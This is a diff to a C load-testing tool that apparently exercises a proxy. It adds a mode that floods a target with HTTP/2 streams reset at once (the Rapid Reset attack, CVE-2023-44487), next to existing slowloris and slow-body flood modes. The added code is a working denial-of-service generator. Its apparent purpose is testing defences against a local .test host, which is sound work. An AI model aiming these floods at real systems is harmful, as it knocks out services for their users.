@@ -6,6 +6,7 @@
 //   load connect   PORT SOURCES RATE SECONDS        connections that say nothing, held for half a second
 //   load slowloris PORT SOURCES CONNECTIONS SECONDS half a head, then a header line every second
 //   load slowbody  PORT SOURCES CONNECTIONS SECONDS a head, then a byte of the body every second
+//   load reset     PORT SOURCES RATE SECONDS        HTTP/2 streams that are reset at once (CVE-2023-44487), 100 at a time
 //   load upstream  PORT CAPACITY                    answers one request after another, CAPACITY a second
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -34,10 +35,11 @@ struct connection {
   char buffer[512];
   int filled;
   int body;
+  uint32_t stream;
 };
 
 static struct connection connections[connections_max];
-static int epoll_fd, port;
+static int epoll_fd, port, highest;
 static uint32_t source_base, source_count;
 static int idle_of[4096][64], idle_count[4096], open_of[4096];
 static long opened, refused, due_total, sent, answered, good, failed, denied;
@@ -94,6 +96,7 @@ static int open_connection(uint32_t source) {
   opened++;
   open_of[source]++;
   connections[fd] = (struct connection){.state = state_connecting, .source = source};
+  if (fd > highest) highest = fd;
   struct epoll_event event = {.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET, .data.fd = fd};
   epoll_ctl(epoll_fd, EPOLL_CTL_ADD, fd, &event);
   return fd;
@@ -197,8 +200,35 @@ static void print(const char *mode, double start, double seconds) {
 static const char slow_head[] = "GET /slow HTTP/1.1\r\nHost: shop.test\r\n", slow_line[] = "X-Slow: 1\r\n";
 static const char slow_post[] = "POST /slow HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 1000000\r\n\r\n", slow_byte[] = "x";
 
+/// What begins an HTTP/2 connection (RFC 9113, section 3.4): the preface and empty SETTINGS.
+static const char h2_preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0";
+enum { resets_at_once = 100 };
+
+/// Sends requests each of which is reset at once. Returns how many.
+static int reset_streams(int fd) {
+  // :method GET, :scheme http, :path /, :authority shop.test
+  static const unsigned char block[] = {0x82, 0x86, 0x84, 0x41, 9, 's', 'h', 'o', 'p', '.', 't', 'e', 's', 't'};
+  struct connection *connection = &connections[fd];
+  unsigned char out[resets_at_once * (9 + sizeof block + 13)], *at = out;
+  if (connection->stream == 0) {
+    if (send(fd, h2_preface, sizeof h2_preface - 1, MSG_NOSIGNAL) < 0) return -1;
+    connection->stream = 1;
+  }
+  for (int i = 0; i < resets_at_once; i++, connection->stream += 2) {
+    uint32_t stream = htonl(connection->stream);
+    const unsigned char headers[] = {0, 0, sizeof block, 1, 5}, reset[] = {0, 0, 4, 3, 0};
+    memcpy(at, headers, 5), memcpy(at + 5, &stream, 4), memcpy(at + 9, block, sizeof block), at += 9 + sizeof block;
+    memcpy(at, reset, 5), memcpy(at + 5, &stream, 4), memcpy(at + 9, "\0\0\0\x08", 4), at += 13;
+  }
+  // A proxy that reads no more has what it wanted: the rest is not sent.
+  if (send(fd, out, (size_t)(at - out), MSG_NOSIGNAL) < (ssize_t)(at - out)) return -1;
+  sent += resets_at_once;
+  return resets_at_once;
+}
+
 static int run_clients(const char *mode, double rate, double seconds) {
   int is_legit = !strcmp(mode, "legit"), is_http = !strcmp(mode, "http"), is_connect = !strcmp(mode, "connect");
+  int is_reset = !strcmp(mode, "reset");
   int is_head = !strcmp(mode, "slowloris"), is_slow = is_head || !strcmp(mode, "slowbody");
   int uses_max = is_legit ? 50 : 20;
   double limit = is_legit ? 2.0 : 1.0, hold = 0.5;
@@ -211,7 +241,17 @@ static int run_clients(const char *mode, double rate, double seconds) {
   while (now() - start < seconds + (is_legit ? limit : 0)) {
     double time = now();
     long due = time - start < seconds ? (long)((time - start) * rate) : due_done;
-    if (is_slow) {
+    if (is_reset) {
+      for (; due_done + resets_at_once <= due; due_done += resets_at_once) {
+        uint32_t source = (uint32_t)(turn++ % source_count);
+        if (idle_count[source] == 0) {
+          if (open_of[source] < 2) open_connection(source);
+          continue;
+        }
+        int fd = idle_of[source][0];
+        if (reset_streams(fd) < 0) release(fd);
+      }
+    } else if (is_slow) {
       // Up to the wanted number, a tenth of it a second.
       double ramp = (time - start) * rate / 2;
       due = (long)(ramp < rate ? ramp : rate);
@@ -258,6 +298,9 @@ static int run_clients(const char *mode, double rate, double seconds) {
       if (connection->state == state_connecting && flags & EPOLLOUT) {
         if (is_legit || is_http) {
           ask(fd);
+        } else if (is_reset) {
+          connection->state = state_idle;
+          idle_of[connection->source][idle_count[connection->source]++] = fd;
         } else {
           connection->state = state_slow;
           if (is_slow) {
@@ -275,7 +318,7 @@ static int run_clients(const char *mode, double rate, double seconds) {
     }
     if (time - look > 0.02) {
       look = time;
-      for (int fd = 0; fd < connections_max; fd++) {
+      for (int fd = 0; fd <= highest; fd++) {
         struct connection *connection = &connections[fd];
         if (connection->state == state_free || connection->state == state_idle) continue;
         if (connection->state == state_slow && time >= connection->next) {
